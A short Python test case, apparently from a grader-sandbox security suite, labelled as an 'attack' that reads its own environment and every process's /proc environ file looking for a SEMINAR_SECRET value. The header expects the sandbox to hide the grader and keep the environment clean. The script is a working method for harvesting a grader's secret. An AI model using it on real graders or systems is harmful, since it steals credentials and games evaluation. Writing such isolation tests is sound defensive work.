# /// attack
# title = "Reads the environment of the grader and of every process in /proc"
# threats = [13]
# expect = "No process of the grader is there, and its own environment is clean"
# harmless_unwalled = true
# honest = ["mean_squared_error"]
# points = { mean_squared_error = 3.0 }
# ///
import glob
import os

seen = [repr(dict(os.environ)).encode()]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/self/environ"):
    try:
        seen.append(open(path, "rb").read())
    except OSError:
        pass
for text in seen:
    where = text.find(b"SEMINAR_SECRET")
    if where >= 0:
        got(text[where : where + 80])
